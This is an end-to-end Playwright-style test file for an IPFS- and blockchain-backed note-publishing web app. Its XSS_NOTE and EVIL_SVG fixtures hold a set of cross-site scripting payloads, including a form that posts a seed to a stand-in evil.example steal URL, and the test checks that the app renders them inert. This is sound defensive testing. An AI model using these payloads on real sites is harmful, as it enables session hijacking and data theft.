/**
 * End-to-end tests of the web app in headless Chromium against the real local stack (started as
 * `npm start` starts it), with an injected EIP-6963 test wallet backed by the Hardhat node.
 * Screenshots land in test/e2e/artifacts/.
 */
import { after, before, describe, test } from "node:test";
import assert from "node:assert/strict";
import http from "node:http";
import { spawnSync } from "node:child_process";
import { mkdir, mkdtemp, readdir, readFile, rm, writeFile } from "node:fs/promises";
import { create as createKuboClient } from "kubo-rpc-client";
import os from "node:os";
import path from "node:path";
import { freePort, nodeBinary, projectRoot, startStack, tilImport, type Stack } from "./stack.ts";
import { addTestWallet, connectWallet, DEV_ACCOUNT, type EditorFields, fillEditor, launch, openPage, type BrowserContext, type Page } from "./browser.ts";
import { Wallet } from "ethers";
import { directoryCid, ENTRY_ADD_OPTIONS, packEntry, parseNote } from "#core/entry/index.ts";
import { subdomainLabel } from "#core/gateway-url.ts";
import { cidToDigest } from "#core/cid.ts";
import { entryTokenId } from "#core/contract/token-id.ts";
import { HARDHAT_FIRST_DEV_KEY } from "#core/contract/local-chain.ts";
import { providerFor, registryAt } from "../../scripts/chain/registry.ts";

/** A hand-made entry names no note identity: the registry takes zero for none. */
const ZERO_NOTE_KEY = `0x${"0".repeat(64)}`;

const artifacts = path.join(import.meta.dirname, "artifacts");
const TIMEOUT = 20_000;
/** The note the app publishes from the editor (and publishes again, to find it already there). */
const BROWSER_NOTE: EditorFields = {
  title: "Browser-published note",
  date: "2025-06-07",
  tags: "e2e, shared",
  body: "## Why\n\nPublished **from the browser**.\n\n```ts\nconst answer: number = 42;\n```\n\n| col | value |\n|-----|-------|\n| a   | 1     |\n\n[a link](https://example.org)\n",
};

let stack: Stack;
let browser: { context: BrowserContext; close(): Promise<void> };
let page: Page;
let dialogs: string[];
let pageErrors: string[];
let publishedCid = "";
let hostedApp: { files: { path: string; content: Uint8Array }[]; cid: string };

/**
 * The production build without any stack-specific value (as `npm start` builds it), so its CID is
 * known before the stack starts, which then allows that copy's own origin on the IPFS RPC API.
 */
async function buildHostedApp(): Promise<typeof hostedApp> {
  const outDir = await mkdtemp(path.join(os.tmpdir(), "til-e2e-dist-"));
  const env = Object.fromEntries(Object.entries(process.env).filter(([name]) => !name.startsWith("VITE_TIL_")));
  const build = spawnSync(
    nodeBinary,
    [path.join(projectRoot, "node_modules", "vite", "bin", "vite.js"), "build", "frontend", "--outDir", outDir, "--emptyOutDir", "--logLevel", "warn"],
    { cwd: projectRoot, env, encoding: "utf8" },
  );
  assert.equal(build.status, 0, build.stderr);
  const files: { path: string; content: Uint8Array }[] = [];
  for (const entry of await readdir(outDir, { recursive: true, withFileTypes: true })) {
    if (entry.isFile())
      files.push({ path: path.relative(outDir, path.join(entry.parentPath, entry.name)), content: await readFile(path.join(entry.parentPath, entry.name)) });
  }
  await rm(outDir, { recursive: true, force: true });
  return { files, cid: (await directoryCid(files)).toString() };
}

/** The origin of `cid` on the stack's gateway: `http://<cidv1-base32>.ipfs.localhost:<port>`. */
const ownOrigin = (cid: string, gatewayPort: number | string) => `http://${subdomainLabel(cid)}.ipfs.localhost:${gatewayPort}`;

async function writeFixtures(): Promise<string> {
  const dir = await mkdtemp(path.join(os.tmpdir(), "til-e2e-notes-"));
  await writeFile(
    path.join(dir, "alpha.md"),
    "---\ntitle: Alpha note about caching\ndate: 2024-01-02\ntags: [alpha, shared]\n---\nCaches **invalidate** badly.\n\n```python\ndef f(x):\n    return x * 2\n```\n",
  );
  await writeFile(
    path.join(dir, "beta.md"),
    `---\ntitle: Beta note on queues\ndate: 2024-01-03\ntags: [beta]\n---\nQueues need *backpressure*.\n\n- one\n- two\n\n${"Long enough to push the last word past the metadata excerpt. ".repeat(6)}Zeppelin.\n`,
  );
  return dir;
}

/** A note built to hurt its readers (its title too). */
const XSS_NOTE = [
  "---",
  'title: "XSS probe <img src=x onerror=window.__xss=1>"',
  "date: 2024-01-04",
  "tags: [security]",
  "---",
  "<script>window.__xss = 1; alert(1)</script>",
  "",
  '<img src=x onerror="window.__xss=2;alert(2)">',
  "",
  "[click me](javascript:window.__xss=3;alert(3))",
  "",
  "[data link](data:text/html,<script>alert(4)</script>)",
  "",
  "![svg image](images/evil.svg)",
  "",
  '<svg onload="window.__xss=5"><script>window.__xss=6</script></svg>',
  "",
  '<a href="javascript:alert(7)">raw link</a> <iframe src="javascript:alert(8)"></iframe>',
  "",
  "[JaVaScRiPt link](JaVaScRiPt&#58;alert(9))",
  "",
  "GitHub's raw HTML, carrying handlers and bad URLs:",
  "",
  '<details open ontoggle="window.__xss=12"><summary onclick="window.__xss=13">More</summary>',
  "",
  'Press <kbd onmouseover="window.__xss=14">Ctrl</kbd> x<sup onclick="window.__xss=15">2</sup> H<sub>2</sub>O',
  "",
  "</details>",
  "",
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" alt="data image" width="20"> <img src="javascript:window.__xss=16" alt="js image">',
  "",
  '<div style="position:fixed;inset:0;z-index:9999;background:red" data-probe="overlay">overlay</div>',
  "",
  "<style>body { display: none !important }</style>",
  "",
  '<form action="https://evil.example/steal"><input name="seed" value="probe-input"><button formaction="javascript:window.__xss=17">send</button></form>',
  "",
  '<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">',
  "",
  '<object data="javascript:window.__xss=18"></object><embed src="javascript:window.__xss=19"><iframe srcdoc="<script>parent.__xss=20</script>"></iframe>',
  "",
].join("\n");

const EVIL_SVG =
  '<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40" onload="window.__xss=10;alert(10)"><script>window.__xss=11;alert(11)</script><rect width="40" height="40" fill="red"/></svg>\n';

/**
 * Publishes the XSS probe as a stranger's tool would: the project's importer and packer refuse a
 * scripted SVG, so the entry directory is put together by hand (the packed note plus
 * images/evil.svg), added through the Kubo RPC API and minted directly. The reader must keep it inert.
 */
async function publishHostileEntry(stack: Stack): Promise<void> {
  const packed = await packEntry(parseNote(XSS_NOTE));
  const files = [...packed.files.map((f) => ({ path: f.path, content: f.content })), { path: "images/evil.svg", content: new TextEncoder().encode(EVIL_SVG) }];
  const ipfs = createKuboClient({ url: stack.apiUrl });
  let root: string | undefined;
  for await (const added of ipfs.addAll(files, { ...ENTRY_ADD_OPTIONS, wrapWithDirectory: true })) if (added.path === "") root = added.cid.toString();
  assert.ok(root, "the node reports the entry directory");
  const deployment = JSON.parse(await readFile(path.join(stack.home, "deployment.json"), "utf8")) as { address: string };
  const provider = providerFor(stack.rpcUrl, 31337);
  try {
    const author = new Wallet(HARDHAT_FIRST_DEV_KEY, provider);
    await (await registryAt(deployment.address, author).getFunction("publish")(cidToDigest(root), ZERO_NOTE_KEY)).wait();
  } finally {
    provider.destroy();
  }
}

describe("web app in Chromium against the local stack", { timeout: 280_000 }, () => {
  before(async () => {
    await mkdir(artifacts, { recursive: true });
    hostedApp = await buildHostedApp();
    stack = await startStack((gatewayPort) => [ownOrigin(hostedApp.cid, gatewayPort)]);
    const notes = await writeFixtures();
    const summary = tilImport(stack, notes);
    assert.equal(summary.published, 2, `CLI import: ${JSON.stringify(summary)}`);
    await publishHostileEntry(stack);
    browser = await launch();
    await addTestWallet(browser.context, { rpcUrl: stack.rpcUrl });
    ({ page, dialogs, errors: pageErrors } = await openPage(browser.context));
    page.setDefaultTimeout(TIMEOUT);
  });

  after(async () => {
    await browser?.close();
    await stack?.stop();
  });

  test("connects the EIP-6963 wallet and shows account and chain", async () => {
    await page.goto(stack.appUrl);
    await connectWallet(page);
    assert.equal(await page.getByTestId("account").getAttribute("title"), DEV_ACCOUNT);
    assert.match((await page.getByTestId("wallet-chain").textContent())!, /Test Wallet · chain 31337/);
  });

  test("lists the CLI-published entries, newest first", async () => {
    await page.goto(`${stack.appUrl}#/`);
    await page.waitForFunction(() => document.querySelectorAll('[data-testid="feed-item"][data-loaded="true"]').length === 3);
    const titles = await page.locator(".feed-title").allTextContents();
    assert.deepEqual(titles, ["XSS probe <img src=x onerror=window.__xss=1>", "Beta note on queues", "Alpha note about caching"]);
  });

  test("writes an entry with live preview and publishes it, step by step", async () => {
    await page.goto(`${stack.appUrl}#/write`);
    await fillEditor(page, BROWSER_NOTE);
    await page.getByTestId("preview").locator("h2", { hasText: "Why" }).waitFor();
    await page.getByTestId("preview").locator("pre code.hljs").waitFor();
    assert.equal(await page.getByTestId("preview").locator("table td").first().textContent(), "a");
    await page.screenshot({ path: path.join(artifacts, "editor.png"), fullPage: true });

    await page.getByTestId("publish").click();
    await page.getByTestId("publish-done").waitFor();
    publishedCid = (await page.getByTestId("publish-cid").textContent())!.trim();
    assert.match(publishedCid, /^bafybei[a-z2-7]+$/);
    assert.equal(await page.locator('[data-testid="publish-steps"] li[data-state="done"]').count(), 6);
    assert.equal(await page.getByTestId("title").inputValue(), "", "a published draft starts a new one");
  });

  test("shows the new entry in the feed and opens it, verified", async () => {
    await page.getByRole("link", { name: "Open the entry" }).click();
    await page.getByTestId("verified").waitFor();
    assert.equal(await page.getByTestId("entry-title").textContent(), "Browser-published note");
    assert.match((await page.getByTestId("verified").textContent())!, new RegExp(stack.gatewayUrl.replace(/[.:/]/g, "\\$&")));
    assert.equal(await page.getByTestId("entry-cid").textContent(), publishedCid);
    await page.getByTestId("token-facts").waitFor();
    assert.match((await page.getByTestId("token-facts").textContent())!, /ipfs:\/\/bafybei[a-z2-7]+\/metadata\.json/);
    await page.locator(".entry-body pre code.hljs").waitFor();
    const link = page.locator(".entry-body a", { hasText: "a link" });
    assert.equal(await link.getAttribute("target"), "_blank");
    assert.match((await link.getAttribute("rel"))!, /noopener/);
    await page.screenshot({ path: path.join(artifacts, "entry.png"), fullPage: true });

    await page.goto(`${stack.appUrl}#/`);
    await page.waitForFunction(() => document.querySelectorAll('[data-testid="feed-item"][data-loaded="true"]').length === 4);
    assert.equal(await page.locator(".feed-title").first().textContent(), "Browser-published note");
    await page.screenshot({ path: path.join(artifacts, "feed.png"), fullPage: true });
    await page.locator(".feed-title", { hasText: "Alpha note" }).click();
    await page.getByTestId("verified").waitFor();
    assert.equal(await page.getByTestId("entry-title").textContent(), "Alpha note about caching");
  });

  test("the entry URL also works by token id", async () => {
    // Registry v2: the id is the author's address followed by the top 96 bits of the digest.
    const tokenId = entryTokenId(DEV_ACCOUNT, cidToDigest(publishedCid));
    await page.goto(`${stack.appUrl}#/entry/${tokenId}`);
    await page.getByTestId("verified").waitFor();
    assert.equal(await page.getByTestId("entry-title").textContent(), "Browser-published note");
  });

  /** Waits until the feed shows exactly these titles, in this order. */
  const feedTitles = async (expected: string[]) => {
    await page
      .waitForFunction((want) => JSON.stringify(Array.from(document.querySelectorAll(".feed-title"), (a) => a.textContent)) === want, JSON.stringify(expected))
      .catch(async (error: Error) =>
        assert.fail(
          `feed shows ${JSON.stringify(await page.locator(".feed-title").allTextContents())}, expected ${JSON.stringify(expected)} (${error.message})`,
        ),
      );
  };

  test("filters by tag, by author and by text", async () => {
    await page.goto(`${stack.appUrl}#/?tag=shared`);
    await feedTitles(["Browser-published note", "Alpha note about caching"]);
    await page.getByTestId("active-filters").filter({ hasText: "tag: shared" }).waitFor();
    await page.goto(`${stack.appUrl}#/?tag=beta`);
    await feedTitles(["Beta note on queues"]);
    await page.goto(`${stack.appUrl}#/?author=0x70997970C51812dc3A010C7d01b50e0d17dc79C8`);
    await page
      .getByTestId("feed-status")
      .filter({ hasText: /^0 of \d+ entries/ })
      .waitFor();
    await page.goto(`${stack.appUrl}#/`);
    await feedTitles(["Browser-published note", "XSS probe <img src=x onerror=window.__xss=1>", "Beta note on queues", "Alpha note about caching"]);
    await page.getByTestId("search").fill("queues");
    await page.getByTestId("search").press("Enter");
    await feedTitles(["Beta note on queues"]);
    // A word only in the note's body, past the 200-character description of its metadata.
    await page.getByTestId("search").fill("zeppelin");
    await page.getByTestId("search").press("Enter");
    await feedTitles(["Beta note on queues"]);
  });

  test("an image dropped into the editor is kept in the draft, packed into the entry and shown from verified bytes", async () => {
    // A 2x2 red PNG.
    const png = "iVBORw0KGgoAAAANSUhEUgAAAAIAAAACCAIAAAD91JpzAAAAEElEQVR4nGP4z8AARAwQCgAf7gP9i18U1AAAAABJRU5ErkJggg==";
    await page.goto(`${stack.appUrl}#/write`);
    await fillEditor(page, { title: "Note with a dropped image", tags: "images", body: "Look:\n\n" });
    await page.getByTestId("body").evaluate((textarea, base64) => {
      const bytes = Uint8Array.from(atob(base64), (c) => c.charCodeAt(0));
      const transfer = new DataTransfer();
      transfer.items.add(new File([bytes], "Red Dot.png", { type: "image/png" }));
      textarea.dispatchEvent(new DragEvent("drop", { dataTransfer: transfer, bubbles: true, cancelable: true }));
    }, png);
    await page.waitForFunction(() => (document.querySelector('[data-testid="body"]') as HTMLTextAreaElement).value.includes("](images/Red-Dot.png)"));
    await page.waitForFunction(() => document.querySelector('[data-testid="preview"] img')?.getAttribute("src")?.startsWith("blob:"));
    await page.waitForTimeout(300);
    await page.reload();
    await page.locator(".draft-images", { hasText: "images/Red-Dot.png" }).waitFor();
    await page.waitForFunction(() => document.querySelector('[data-testid="preview"] img')?.getAttribute("src")?.startsWith("blob:"));
    await page.getByTestId("publish").click();
    await page.getByTestId("publish-done").waitFor();
    await page.getByRole("link", { name: "Open the entry" }).click();
    await page.getByTestId("verified").waitFor();
    await page.waitForFunction(() => {
      const img = document.querySelector<HTMLImageElement>('[data-testid="entry-body"] img');
      return img?.src.startsWith("blob:") && img.complete && img.naturalWidth === 2;
    });
  });

  test("publishing the same content again links to the existing entry", async () => {
    await page.goto(`${stack.appUrl}#/write`);
    await fillEditor(page, BROWSER_NOTE);
    await page.getByTestId("publish").click();
    const error = page.getByTestId("publish-error");
    await error.waitFor();
    assert.equal(await error.getAttribute("data-kind"), "already-published");
    await page.getByTestId("existing-entry").click();
    await page.getByTestId("verified").waitFor();
    assert.equal(await page.getByTestId("entry-title").textContent(), "Browser-published note");
  });

  test("a rejected transaction keeps the draft, across a reload", async () => {
    await page.goto(`${stack.appUrl}#/write`);
    await fillEditor(page, { title: "Draft that must survive", tags: "keep", body: "This text must not be lost.\n" });
    await page.evaluate(() => ((window as unknown as { __testWallet: { rejectNext: string } }).__testWallet.rejectNext = "eth_sendTransaction"));
    await page.getByTestId("publish").click();
    const error = page.getByTestId("publish-error");
    await error.waitFor();
    assert.equal(await error.getAttribute("data-kind"), "rejected");
    assert.match((await error.textContent())!, /rejected the transaction/);
    assert.equal(await page.getByTestId("title").inputValue(), "Draft that must survive");
    await page.reload();
    await page.getByTestId("title").waitFor();
    assert.equal(await page.getByTestId("title").inputValue(), "Draft that must survive");
    assert.equal(await page.getByTestId("body").inputValue(), "This text must not be lost.\n");
  });

  test("wrong chain: says which chain is needed, refuses to publish, switches on request", async () => {
    await page.evaluate(() => (window as unknown as { __testWallet: { setChain(id: number): void } }).__testWallet.setChain(10));
    const banner = page.getByTestId("wrong-chain").first();
    await banner.waitFor();
    assert.match((await banner.textContent())!, /chain 10.*chain id 31337/);
    await page.screenshot({ path: path.join(artifacts, "wrong-chain.png") });
    await page.getByTestId("publish").click();
    const error = page.getByTestId("publish-error");
    await error.waitFor();
    assert.equal(await error.getAttribute("data-kind"), "wrong-chain");
    await banner.getByRole("button", { name: /Switch to/ }).click();
    await page.getByTestId("wrong-chain").first().waitFor({ state: "detached" });
    assert.match((await page.getByTestId("wallet-chain").textContent())!, /chain 31337/);
    assert.equal(await page.getByTestId("title").inputValue(), "Draft that must survive");
  });

  test("untrusted entry content stays inert (scripts, handlers, javascript: and data: URLs, SVG, forms, styles, meta, base, frames)", async () => {
    await page.goto(`${stack.appUrl}#/`);
    await page.locator(".feed-title", { hasText: "XSS probe" }).click();
    await page.getByTestId("verified").waitFor();
    const body = page.getByTestId("entry-body");
    // GitHub's subset of raw HTML renders; everything else is dropped
    await body.locator("details > summary", { hasText: "More" }).waitFor();
    assert.equal(await body.locator("kbd").textContent(), "Ctrl");
    assert.doesNotMatch((await body.textContent())!, /window.__xss = 1/, "a script's text is dropped with it");
    assert.equal(
      await page
        .locator(
          "main script, main iframe, main object, main embed, main form, main input, main style, main meta, main base, main [onerror], main [onload], main [ontoggle], main [onclick], main [onmouseover]",
        )
        .count(),
      0,
    );
    // the app draws identicons as inline SVG; the note itself brings none, and no style attribute
    assert.equal(await body.locator("svg, [style]").count(), 0);
    assert.equal(await page.locator('base, meta[http-equiv="refresh" i]').count(), 0);
    assert.notEqual(await page.evaluate(() => getComputedStyle(document.body).display), "none");
    await body.getByText("overlay").waitFor();
    assert.equal(await body.getByText("overlay").evaluate((el) => getComputedStyle(el).position), "static");
    assert.equal(await page.locator('main a[href^="javascript" i], main a[href^="data:" i]').count(), 0);
    await body.getByText("click me").click();
    await body
      .getByText("JaVaScRiPt link")
      .click()
      .catch(() => undefined);
    // The SVG image is shown through <img> (scripts in it never run) from verified bytes.
    // <img src=x>: a path inside the entry, which has no such file (shown as missing); the data: and javascript: images as their alt text
    const img = body.locator("img");
    await page.waitForFunction(() =>
      document.querySelector('[data-testid="entry-body"] img[alt="svg image"]')?.getAttribute("src")?.startsWith("data:image/svg+xml"),
    );
    assert.equal(await img.count(), 2);
    await body.locator("img.missing-image").waitFor();
    await body.getByText("[image: data image]").waitFor();
    await body.getByText("[image: js image]").waitFor();
    await page.waitForTimeout(1_000);
    await page.screenshot({ path: path.join(artifacts, "xss-entry.png"), fullPage: true });
    assert.equal(await page.evaluate(() => (window as unknown as { __xss?: unknown }).__xss), undefined);
    assert.deepEqual(dialogs, []);
    assert.ok(page.url().includes("#/entry/"), `still on the entry page: ${page.url()}`);
  });

  test("a gateway serving tampered bytes is rejected and the next one serves verified bytes", async () => {
    const port = await freePort();
    let hits = 0;
    const server = http.createServer((req, res) => {
      hits++;
      res.writeHead(200, { "access-control-allow-origin": "*", "content-type": "application/vnd.ipld.raw" });
      res.end(req.method === "HEAD" ? undefined : "tampered bytes that do not hash to the CID");
    });
    await new Promise<void>((resolve) => server.listen(port, "127.0.0.1", resolve));
    const tampered = `http://127.0.0.1:${port}`;
    try {
      await page.goto(`${stack.appUrl}#/settings`);
      await page.getByTestId("setting-gateways").fill(`${tampered}\n${stack.gatewayUrl}`);
      await page.getByTestId("save-settings").click();
      await page.waitForLoadState("load");
      await page.goto(`${stack.appUrl}#/entry/${publishedCid}`);
      await page.reload();
      await page.getByTestId("verified").waitFor();
      assert.match((await page.getByTestId("verified").textContent())!, new RegExp(`Served by ${stack.gatewayUrl.replace(/[.:/]/g, "\\$&")}`));
      const failures = (await page.getByTestId("gateway-failures").textContent())!;
      assert.match(failures, new RegExp(`${tampered.replace(/[.:/]/g, "\\$&")}: returned bytes that do not match the CID \\(rejected\\)`));
      assert.ok(hits > 0);
      await page.screenshot({ path: path.join(artifacts, "tampered-gateway.png"), fullPage: true });

      // With only the lying gateway, nothing is shown.
      await page.evaluate(
        (gw) => localStorage.setItem("til.settings", JSON.stringify({ ...JSON.parse(localStorage.getItem("til.settings") ?? "{}"), gateways: [gw] })),
        tampered,
      );
      await page.reload();
      await page.getByTestId("entry-error").waitFor();
      assert.match((await page.getByTestId("entry-error").textContent())!, /do not match the CID/);
      assert.equal(await page.getByTestId("entry-body").count(), 0);
    } finally {
      await page.evaluate(() => localStorage.removeItem("til.settings"));
      await page.reload();
      server.close();
    }
  });

  test("an unreachable IPFS API is explained and keeps the draft", async () => {
    const closedPort = await freePort();
    try {
      await page.goto(`${stack.appUrl}#/settings`);
      await page.getByTestId("setting-ipfsApiUrl").fill(`http://127.0.0.1:${closedPort}`);
      await page.getByTestId("save-settings").click();
      await page.waitForLoadState("load");
      await page.goto(`${stack.appUrl}#/write`);
      await page.getByTestId("title").waitFor();
      assert.equal(await page.getByTestId("title").inputValue(), "Draft that must survive");
      await page.getByTestId("publish").click();
      const error = page.getByTestId("publish-error");
      await error.waitFor();
      assert.equal(await error.getAttribute("data-kind"), "ipfs-unreachable");
      assert.match((await error.textContent())!, new RegExp(`Cannot reach the IPFS RPC API at http://127\\.0\\.0\\.1:${closedPort}`));
      assert.equal(await page.getByTestId("title").inputValue(), "Draft that must survive");
    } finally {
      await page.evaluate(() => localStorage.removeItem("til.settings"));
      await page.reload();
    }
  });

  test("wrong chain the wallet does not know: the app adds the local chain to the wallet, then it switches", async () => {
    type Wallet = { knownChains: number[] | null; addedChains: Array<{ chainId: string; rpcUrls?: string[] }>; setChain(id: number): void };
    await page.evaluate(() => {
      const wallet = (window as unknown as { __testWallet: Wallet }).__testWallet;
      wallet.knownChains = [10];
      wallet.setChain(10);
    });
    const banner = page.getByTestId("wrong-chain").first();
    await banner.waitFor();
    await banner.getByRole("button", { name: /Switch to/ }).click();
    await page.getByTestId("wrong-chain").first().waitFor({ state: "detached" });
    const added = await page.evaluate(() => (window as unknown as { __testWallet: Wallet }).__testWallet.addedChains);
    assert.equal(added.length, 1, "the app asked the wallet to add the chain once");
    assert.equal(added[0].chainId, "0x7a69");
    assert.deepEqual(added[0].rpcUrls, [stack.rpcUrl]);
    assert.match((await page.getByTestId("wallet-chain").textContent())!, /chain 31337/);
    await page.evaluate(() => ((window as unknown as { __testWallet: Wallet }).__testWallet.knownChains = null));
  });

  test("without a browser wallet: a labelled Hardhat dev account publishes on the local chain", async () => {
    await page.goto(`${stack.appUrl}#/write`);
    await page.getByRole("button", { name: "Disconnect" }).click();
    await connectWallet(page, { devAccount: 1 });
    assert.equal(await page.getByTestId("account").getAttribute("title"), "0x70997970C51812dc3A010C7d01b50e0d17dc79C8");
    await page.getByTestId("publish").click();
    await page.locator('[data-testid="publish-done"], [data-testid="publish-error"]').first().waitFor();
    if ((await page.getByTestId("publish-error").count()) > 0) assert.fail(`publish failed: ${await page.getByTestId("publish-error").textContent()}`);
    await page.goto(`${stack.appUrl}#/?author=0x70997970C51812dc3A010C7d01b50e0d17dc79C8`);
    await page.waitForFunction(() => document.querySelectorAll('[data-testid="feed-item"][data-loaded="true"]').length === 1);
    assert.deepEqual(await page.locator(".feed-title").allTextContents(), ["Draft that must survive"]);
  });

  test("insufficient funds is explained and keeps the draft", async () => {
    const poor = "0x3C44CdDdB6a900fa2b585dd299e03d12FA4293BC"; // Hardhat dev account #2
    await fetch(stack.rpcUrl, {
      method: "POST",
      headers: { "content-type": "application/json" },
      body: JSON.stringify({ jsonrpc: "2.0", id: 1, method: "hardhat_setBalance", params: [poor, "0x0"] }),
    });
    await page.goto(`${stack.appUrl}#/write`);
    await page.getByRole("button", { name: "Disconnect" }).click();
    await connectWallet(page, { devAccount: 2 });
    await fillEditor(page, { title: "Written by an account without ETH", body: "No funds.\n" });
    await page.getByTestId("publish").click();
    const error = page.getByTestId("publish-error");
    await error.waitFor();
    assert.equal(await error.getAttribute("data-kind"), "insufficient-funds", (await error.textContent())!);
    assert.equal(await page.getByTestId("title").inputValue(), "Written by an account without ETH");
  });

  test("phone width: no horizontal scrolling on the feed, an entry and the editor", async () => {
    await page.setViewportSize({ width: 390, height: 844 });
    for (const [route, shot] of [
      ["#/", "feed-phone.png"],
      [`#/entry/${publishedCid}`, "entry-phone.png"],
      ["#/write", "editor-phone.png"],
    ] as const) {
      await page.goto(`${stack.appUrl}${route}`);
      await page
        .locator('[data-testid="feed-item"][data-loaded="true"], [data-testid="verified"], [data-testid="title"]')
        .first()
        .waitFor()
        .catch(async (error: Error) => {
          await page.screenshot({ path: path.join(artifacts, `failed-${shot}`), fullPage: true });
          throw error;
        });
      await page.waitForTimeout(300);
      const overflow = await page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth);
      await page.screenshot({ path: path.join(artifacts, shot), fullPage: true });
      assert.ok(overflow <= 0, `${route} overflows by ${overflow}px`);
    }
    await page.emulateMedia({ colorScheme: "dark" });
    await page.goto(`${stack.appUrl}#/entry/${publishedCid}`);
    await page.locator(".entry-body pre code.hljs").waitFor();
    assert.equal(await page.evaluate(() => getComputedStyle(document.documentElement).backgroundColor), "rgb(21, 22, 26)");
    await page.screenshot({ path: path.join(artifacts, "entry-phone-dark.png"), fullPage: true });
    await page.emulateMedia({ colorScheme: "light" });
    await page.setViewportSize({ width: 1200, height: 900 });
  });

  test("the production build runs from /ipfs/<cid>/ on the gateway, redirected to its own origin <cid>.ipfs.localhost (relative base, hash routes)", async () => {
    const deployment = JSON.parse(await readFile(path.join(stack.home, "deployment.json"), "utf8")) as {
      chainId: number;
      address: string;
      deployBlock: number;
    };
    const ipfs = createKuboClient({ url: stack.apiUrl });
    let root = "";
    for await (const added of ipfs.addAll(hostedApp.files, { wrapWithDirectory: true, cidVersion: 1, rawLeaves: true, pin: true }))
      if (added.path === "") root = added.cid.toString();
    assert.equal(root, hostedApp.cid, "the node gives the CID computed before the stack started");
    const origin = ownOrigin(root, new URL(stack.gatewayUrl).port);

    const hosted = await browser.context.newPage();
    const hostedErrors: string[] = [];
    hosted.on("pageerror", (error) => hostedErrors.push(error.message));
    hosted.setDefaultTimeout(TIMEOUT);
    // the build carries no stack value: the user's saved Settings, kept in the app's own origin
    const saved = {
      chainId: 31337,
      rpcUrl: stack.rpcUrl,
      contractAddress: deployment.address,
      deployBlock: deployment.deployBlock,
      ipfsApiUrl: stack.apiUrl,
      ipfsApiAuth: "",
      gateways: [stack.gatewayUrl],
      publicGateway: stack.gatewayUrl,
    };
    await hosted.addInitScript(
      ({ appOrigin, settings }) => {
        if (location.origin === appOrigin) localStorage.setItem("til.settings", settings);
      },
      { appOrigin: origin, settings: JSON.stringify(saved) },
    );
    await hosted.goto(`${stack.gatewayUrl}/ipfs/${root}/`);
    assert.equal(new URL(hosted.url()).origin, origin, "the path form redirects to the app's own origin");
    await hosted.waitForFunction(() => document.querySelectorAll('[data-testid="feed-item"][data-loaded="true"]').length >= 4);
    await hosted.locator(".feed-title", { hasText: "Beta note on queues" }).click();
    await hosted.getByTestId("verified").waitFor();
    assert.ok(hosted.url().startsWith(`${origin}/#/entry/`), hosted.url());
    const entryCid = (await hosted.getByTestId("entry-cid").textContent())!;
    const entryOrigin = ownOrigin(entryCid, new URL(stack.gatewayUrl).port);
    assert.notEqual(entryOrigin, origin);
    assert.equal(await hosted.locator(`a[href="${entryOrigin}/"]`).count(), 1, '"open on a gateway" opens the entry on its own origin, not the app\'s');
    assert.equal(await hosted.locator(`a[href="${entryOrigin}/metadata.json"]`).count(), 1);
    assert.equal(await hosted.getByTestId("entry-title").textContent(), "Beta note on queues");
    const csp = await hosted.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute("content");
    assert.match(csp!, /script-src 'self'/);
    await hosted.screenshot({ path: path.join(artifacts, "ipfs-hosted-entry.png") });

    // The built editor publishes too (kubo-rpc-client and wagmi in the production bundle).
    await hosted.goto(`${origin}/#/write`);
    await connectWallet(hosted, { devAccount: 0 });
    await fillEditor(hosted, { title: "Published from the IPFS-hosted app", body: "Served from /ipfs/.\n" });
    await hosted.getByTestId("publish").click();
    await hosted.locator('[data-testid="publish-done"], [data-testid="publish-error"]').first().waitFor();
    if ((await hosted.getByTestId("publish-error").count()) > 0) assert.fail(`publish failed: ${await hosted.getByTestId("publish-error").textContent()}`);
    assert.deepEqual(hostedErrors, []);
    await hosted.close();
  });

  test("no uncaught page errors", () => {
    assert.deepEqual(pageErrors, []);
  });
});
